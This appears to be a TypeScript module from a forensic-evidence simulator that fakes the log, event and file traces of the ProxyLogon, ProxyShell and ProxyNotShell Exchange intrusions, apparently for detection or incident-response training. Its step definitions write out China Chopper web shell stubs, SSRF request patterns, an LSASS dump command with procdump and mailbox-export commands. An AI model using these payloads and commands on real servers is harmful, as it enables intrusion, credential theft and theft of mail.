import { type At, fileCreate, processCreate, W3WP } from '../evidence/evtx/sample-events.js';
import type { SampleEvent } from '../evidence/evtx/writer.js';
import type { Request, Server } from './exchange-logs.js';

/** Where a planted step left its trace: a log line, an event record, or a file. */
export type Evidence = { file: string; line: number } | { file: string; record: number } | { file: string };

/** What the simulated server writes on an intrusion's behalf. */
export interface Emit {
  server: Server;
  domain: string;
  /** A web request, in IIS's log and (with a protocol) the HttpProxy log. */
  request(r: Request): Evidence[];
  ecp(time: number, cmd: string, url: string): Evidence;
  oab(time: number, level: string, message: string): Evidence;
  event(log: EventLog, e: SampleEvent): Evidence;
  /** A file written at a time (its modification time). */
  file(path: string, content: string | Buffer, time: number): Evidence;
}

export type EventLog = 'Application' | 'Security' | 'Sysmon' | 'MSExchange Management';

export interface Step {
  id: string;
  description: string;
  cves: string[];
  techniques: string[];
  /** Seconds after the intrusion starts. */
  at: number;
  run(emit: Emit, time: number): Evidence[];
  /** Traces no rule tells from ordinary traffic (mail read with stolen credentials): spoor mail-access finds them, by the intruder's address. */
  foundBy?: 'mail-access';
  /** The mailboxes the step reaches, and over which seconds after the step's start. */
  mailboxes?: { mailbox: string; how: string; from: number; to: number }[];
}

/** Whose mail the ProxyLogon intruder takes: the chief executive's and the finance director's read over EWS, the general counsel's exported. */
export const VICTIM_MAILBOXES = { ceo: 'user007@corp.example', cfo: 'user042@corp.example', counsel: 'user113@corp.example' };

/** The EWS Managed API's user agent (what scripts reading mail over EWS send). */
const EWS_CLIENT = 'ExchangeServicesClient/15.00.0913.015';

/** EWS calls reading a mailbox through impersonation: the X-AnchorMailbox header names it, and HttpProxy logs it. */
function ewsReads(emit: Emit, t: number, mailbox: string, seconds: readonly number[]): Evidence[] {
  return seconds.flatMap((d) => emit.request({ time: t + d * 1000, method: 'POST', stem: '/EWS/Exchange.asmx', query: '', user: 'CORP\\administrator', clientIp: ATTACKER_IPS.shell, userAgent: EWS_CLIENT, status: 200, timeTaken: 300 + (d % 7) * 40, protocol: 'Ews', anchorMailbox: `Smtp~${mailbox}`, authType: 'Negotiate' }));
}

export const INTRUSIONS = ['proxylogon', 'proxyshell', 'proxynotshell'] as const;
export type Intrusion = (typeof INTRUSIONS)[number];

/** Addresses Volexity and CISA published for the March 2021 exploitation (AA21-062A): a replay uses them. */
export const ATTACKER_IPS = { recon: '104.140.114.110', shell: '5.254.43.18', proxyshell: '157.230.221.198', proxynotshell: '167.99.168.251' };

const EX = 'Program Files/Microsoft/Exchange Server/V15';
export const WEB = { owaAuth: `${EX}/FrontEnd/HttpProxy/owa/auth`, aspnetClient: 'inetpub/wwwroot/aspnet_client' };
const EX_WIN = 'C:\\Program Files\\Microsoft\\Exchange Server\\V15';

/** The OAB virtual directory's settings with the China Chopper stub in ExternalUrl, as ResetOABVirtualDirectory wrote them to disk. */
const OAB_SHELL = (name: string) => `<?xml version="1.0"?>
<!-- ${name} -->
ExternalUrl    : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["orange"],"unsafe");}</script>
InternalUrl    : https://exch01.corp.example/OAB
OfflineAddressBooks : \\Default Offline Address Book
PollInterval   : 480
RequireSSL     : True
BasicAuthentication : False
WindowsAuthentication : True
OAuthAuthentication : True
Name           : OAB (Default Web Site)
`;

const CHOPPER = '<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>';

const sysmon = (emit: Emit, e: SampleEvent) => emit.event('Sysmon', e);

/**
 * The steps of an intrusion, after the published accounts of each chain: ProxyLogon as HAFNIUM ran it
 * in March 2021 (Microsoft, Volexity: SSRF through the X-BEResource cookie, an OAB virtual directory
 * made into a China Chopper shell, the shell used to run commands, dump LSASS with procdump and stage
 * archives), ProxyShell (August 2021) and ProxyNotShell (September 2022).
 */
export function intrusionSteps(kind: Intrusion, s: Server, shellName: string): Step[] {
  const at = (time: number, seconds = 0): At => ({ host: s.fqdn, time: time + seconds * 1000 });
  const req = (time: number, r: Partial<Request> & Pick<Request, 'method' | 'stem' | 'clientIp' | 'userAgent'>): Request => ({ time, query: '', user: '', status: 200, timeTaken: 120, ...r });
  switch (kind) {
    case 'proxylogon':
      return [
        {
          id: 'proxylogon-ssrf', at: 0, cves: ['CVE-2021-26855'], techniques: ['T1190'],
          description: 'Unauthenticated requests with a ServerInfo~ anchor mailbox (X-BEResource cookie) forge requests to the back end: Autodiscover for the legacy DN, MAPI for the SID, ECP proxyLogon.ecp for a session',
          run: (emit, t) => [
            ...emit.request(req(t, { method: 'POST', stem: '/ecp/y.js', clientIp: ATTACKER_IPS.recon, userAgent: 'ExchangeServicesClient/0.0.0.0', protocol: 'Ecp', anchorMailbox: `ServerInfo~${s.fqdn}/autodiscover/autodiscover.xml?#`, routingHint: 'X-BEResource-Cookie' })),
            ...emit.request(req(t + 2000, { method: 'POST', stem: '/ecp/y.js', clientIp: ATTACKER_IPS.recon, userAgent: 'ExchangeServicesClient/0.0.0.0', protocol: 'Ecp', anchorMailbox: `ServerInfo~${s.fqdn}/mapi/emsmdb/?#`, routingHint: 'X-BEResource-Cookie' })),
            ...emit.request(req(t + 4000, { method: 'POST', stem: '/ecp/y.js', clientIp: ATTACKER_IPS.recon, userAgent: 'ExchangeServicesClient/0.0.0.0', protocol: 'Ecp', anchorMailbox: `ServerInfo~${s.fqdn}/ecp/proxyLogon.ecp?#`, routingHint: 'X-BEResource-Cookie', status: 241 })),
          ],
        },
        {
          id: 'proxylogon-oab-vdir', at: 30, cves: ['CVE-2021-27065'], techniques: ['T1505.003'],
          description: 'Through the forged ECP session, Set-OabVirtualDirectory puts a China Chopper stub in ExternalUrl, and a reset of the virtual directory writes it to aspnet_client as an .aspx file',
          run: (emit, t) => [
            emit.ecp(t, `Set-OabVirtualDirectory.ExternalUrl='http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["orange"],"unsafe");}</script>'.Identity='${s.host}\\OAB (Default Web Site)'`, '/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=x'),
            emit.ecp(t + 5000, `ResetOABVirtualDirectory.FilePathName='\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\${shellName}.aspx'`, '/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=x'),
            emit.file(`${WEB.aspnetClient}/${shellName}.aspx`, OAB_SHELL(shellName), t + 5000),
            sysmon(emit, fileCreate(at(t, 5), W3WP, `C:\\inetpub\\wwwroot\\aspnet_client\\${shellName}.aspx`)),
          ],
        },
        {
          id: 'proxylogon-oab-file-write', at: 50, cves: ['CVE-2021-26858'], techniques: ['T1505.003'],
          description: 'The OAB generator is made to write a second shell into the OWA authentication folder',
          run: (emit, t) => [
            emit.oab(t, 'Error', `Download failed and temporary file '${EX_WIN}\\FrontEnd\\HttpProxy\\owa\\auth\\${shellName}2.aspx' needs to be removed.`),
            emit.file(`${WEB.owaAuth}/${shellName}2.aspx`, CHOPPER, t),
          ],
        },
        {
          id: 'proxylogon-um-deserialisation', at: 70, cves: ['CVE-2021-26857'], techniques: ['T1203'],
          description: 'The Unified Messaging service deserialises a crafted object and logs the InvalidCastException',
          run: (emit, t) => [
            emit.event('Application', {
              provider: 'MSExchange Unified Messaging', providerGuid: '00000000-0000-0000-0000-000000000000', eventId: 1050, level: 2, task: 0, keywords: 0x80000000000000n,
              time: t, processId: 4412, threadId: 5520, channel: 'Application', computer: s.fqdn,
              data: [['', 'Unhandled exception in UMWorkerProcess: System.InvalidCastException: Unable to cast object of type \'System.Security.Claims.ClaimsIdentity\' to type \'Microsoft.Exchange.UM.Rpc.UMPartnerMessageRequest\'.']],
            }),
          ],
        },
        {
          id: 'webshell-use', at: 120, cves: [], techniques: ['T1505.003'],
          description: 'The aspnet_client shell is used from a second leased VPS address',
          run: (emit, t) => [0, 7, 19, 31].flatMap((d) => emit.request(req(t + d * 1000, { method: 'POST', stem: `/aspnet_client/${shellName}.aspx`, clientIp: ATTACKER_IPS.shell, userAgent: 'antSword/v2.1', timeTaken: 900 }))),
        },
        {
          id: 'command-execution', at: 125, cves: [], techniques: ['T1059.003', 'T1033'],
          description: 'The IIS worker (the shell) starts cmd.exe for discovery',
          run: (emit, t) => [
            sysmon(emit, processCreate(at(t), 'C:\\Windows\\System32\\cmd.exe', 'cmd /c whoami /all', W3WP, 'NT AUTHORITY\\SYSTEM', 6120)),
            sysmon(emit, processCreate(at(t, 14), 'C:\\Windows\\System32\\cmd.exe', 'cmd /c net group "Exchange Trusted Subsystem" /domain', W3WP, 'NT AUTHORITY\\SYSTEM', 6144)),
          ],
        },
        {
          id: 'credential-dump', at: 300, cves: [], techniques: ['T1003.001'],
          description: 'LSASS is dumped with procdump into ProgramData',
          run: (emit, t) => [
            sysmon(emit, processCreate(at(t), 'C:\\ProgramData\\procdump64.exe', 'C:\\ProgramData\\procdump64.exe -accepteula -ma lsass.exe C:\\ProgramData\\lsass.dmp', 'C:\\Windows\\System32\\cmd.exe', 'NT AUTHORITY\\SYSTEM', 6422)),
            emit.file('ProgramData/lsass.dmp', Buffer.concat([Buffer.from('MDMP\x93\xa7\0\0', 'latin1'), Buffer.alloc(4096)]), t + 9000),
          ],
        },
        {
          id: 'staging', at: 600, cves: [], techniques: ['T1560.001'],
          description: 'The dump is compressed with 7-Zip in ProgramData for exfiltration',
          run: (emit, t) => [
            sysmon(emit, processCreate(at(t), 'C:\\ProgramData\\7za.exe', 'C:\\ProgramData\\7za.exe a C:\\ProgramData\\out.7z C:\\ProgramData\\lsass.dmp', 'C:\\Windows\\System32\\cmd.exe', 'NT AUTHORITY\\SYSTEM', 6530)),
            emit.file('ProgramData/out.7z', Buffer.concat([Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]), Buffer.alloc(2048, 0x5a)]), t + 20000),
          ],
        },
        {
          id: 'impersonation-role', at: 880, cves: [], techniques: ['T1098'],
          description: 'With the administrator\'s password from the LSASS dump, the ApplicationImpersonation role is given to the administrator, to open any mailbox over EWS',
          run: (emit, t) => [emit.event('MSExchange Management', mgmtEvent(s, t, 'New-ManagementRoleAssignment', '-Role "ApplicationImpersonation" -User "administrator"'))],
        },
        {
          id: 'mailbox-read-ews', at: 900, cves: [], techniques: ['T1114.002'], foundBy: 'mail-access',
          description: 'Two executives\' mailboxes are read over EWS with impersonation (the EWS Managed API) from the shell\'s address: folders listed, items found and fetched',
          mailboxes: [
            { mailbox: VICTIM_MAILBOXES.ceo, how: 'EWS', from: 0, to: 240 },
            { mailbox: VICTIM_MAILBOXES.cfo, how: 'EWS', from: 420, to: 610 },
          ],
          run: (emit, t) => [...ewsReads(emit, t, VICTIM_MAILBOXES.ceo, [0, 3, 9, 31, 62, 118, 180, 240]), ...ewsReads(emit, t, VICTIM_MAILBOXES.cfo, [420, 424, 451, 530, 610])],
        },
        {
          id: 'mailbox-export', at: 1500, cves: [], techniques: ['T1114.002', 'T1059.001'],
          description: 'Through the shell, PowerShell with Exchange\'s snap-in exports the general counsel\'s mailbox to a .pst in aspnet_client, which is then downloaded',
          mailboxes: [{ mailbox: VICTIM_MAILBOXES.counsel, how: 'export', from: 0, to: 2 }],
          run: (emit, t) => {
            const pst = `${shellName}.pst`;
            const script = `Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; New-MailboxExportRequest -Mailbox ${VICTIM_MAILBOXES.counsel} -FilePath \\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\${pst}`;
            return [
              sysmon(emit, processCreate(at(t), 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', `powershell.exe -Command "${script}"`, 'C:\\Windows\\System32\\cmd.exe', 'NT AUTHORITY\\SYSTEM', 7012)),
              emit.event('MSExchange Management', mgmtEvent(s, t + 2000, 'New-MailboxExportRequest', `-Mailbox "${VICTIM_MAILBOXES.counsel}" -FilePath "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\${pst}"`)),
              emit.file(`${WEB.aspnetClient}/${pst}`, Buffer.concat([Buffer.from('!BDN', 'latin1'), Buffer.alloc(8192, 0x11)]), t + 95_000),
              ...emit.request(req(t + 140_000, { method: 'GET', stem: `/aspnet_client/${pst}`, clientIp: ATTACKER_IPS.shell, userAgent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:86.0) Gecko/20100101 Firefox/86.0', timeTaken: 2400 })),
              emit.event('MSExchange Management', mgmtEvent(s, t + 160_000, 'Remove-MailboxExportRequest', `-Identity "${VICTIM_MAILBOXES.counsel}\\MailboxExport" -Confirm "False"`)),
            ];
          },
        },
      ];
    case 'proxyshell': {
      const q = (backend: string) => `@evil.example${backend}?&Email=autodiscover/autodiscover.json%3F@evil.example`;
      return [
        {
          id: 'proxyshell-ssrf', at: 3600, cves: ['CVE-2021-34473', 'CVE-2021-34523'], techniques: ['T1190'],
          description: 'Autodiscover path confusion reaches the back end unauthenticated: MAPI/NSPI for the legacy DN, then remote PowerShell as SYSTEM',
          run: (emit, t) => [
            ...emit.request(req(t, { method: 'POST', stem: '/autodiscover/autodiscover.json', query: q('/mapi/nspi/'), clientIp: ATTACKER_IPS.proxyshell, userAgent: 'python-requests/2.26.0', protocol: 'Autodiscover' })),
            ...emit.request(req(t + 3000, { method: 'POST', stem: '/autodiscover/autodiscover.json', query: q('/powershell/') + '&X-Rps-CAT=VgEAVAdXaW5kb3dz', clientIp: ATTACKER_IPS.proxyshell, userAgent: 'python-requests/2.26.0', protocol: 'Autodiscover' })),
          ],
        },
        {
          id: 'proxyshell-mailbox-export', at: 3620, cves: ['CVE-2021-31207'], techniques: ['T1505.003'],
          description: 'The Mailbox Import Export role is granted and a mailbox with a shell in a draft is exported to an .aspx file',
          mailboxes: [{ mailbox: 'administrator@corp.example', how: 'export', from: 4, to: 4 }],
          run: (emit, t) => [
            emit.event('MSExchange Management', mgmtEvent(s, t, 'New-ManagementRoleAssignment', '-Role "Mailbox Import Export" -User "administrator@corp.example"')),
            emit.event('MSExchange Management', mgmtEvent(s, t + 4000, 'New-MailboxExportRequest', `-Mailbox "administrator@corp.example" -IncludeFolders "#Drafts#" -ContentFilter "(Subject -eq 'invoice')" -FilePath "\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\${shellName}ps.aspx"`)),
            emit.file(`${WEB.aspnetClient}/${shellName}ps.aspx`, '!BDN\x00\x00 ... <script language="JScript" runat="server">function Page_Load(){eval(Request["exec_code"],"unsafe");}</script>', t + 9000),
          ],
        },
      ];
    }
    case 'proxynotshell':
      return [
        {
          id: 'proxynotshell-ssrf', at: 7200, cves: ['CVE-2022-41040', 'CVE-2022-41082'], techniques: ['T1190'],
          description: 'An authenticated autodiscover.json request with an @ reaches remote PowerShell',
          run: (emit, t) => emit.request(req(t, { method: 'POST', stem: '/autodiscover/autodiscover.json', query: '@evil.example/owa/&Email=autodiscover/autodiscover.json%3f@evil.example&Protocol=XYZ&FooProtocol=Powershell', user: 'CORP\\user017', clientIp: ATTACKER_IPS.proxynotshell, userAgent: 'python-requests/2.28.1', protocol: 'Autodiscover' })),
        },
      ];
  }
}

/** An MSExchange Management cmdlet event (1: Cmdlet succeeded), its values unnamed as the log writes them. */
export function mgmtEvent(s: Server, time: number, cmdlet: string, parameters: string): SampleEvent {
  return {
    provider: 'MSExchange CmdletLogs', providerGuid: '00000000-0000-0000-0000-000000000000', eventId: 1, level: 4, task: 1, keywords: 0x80000000000000n,
    time, processId: 5524, threadId: 88, channel: 'MSExchange Management', computer: s.fqdn,
    data: [['', cmdlet], ['', `{${parameters}}`], ['', 'corp.example/Users/Administrator'], ['', 'S-1-5-21-1004336348-1177238915-682003330-500'], ['', 'S-1-5-21-1004336348-1177238915-682003330-500'], ['', 'Remote-PowerShell-Unknown'], ['', '5524 w3wp#MSExchangePowerShellAppPool'], ['', ''], ['', '00:00:00.1406250']],
  };
}
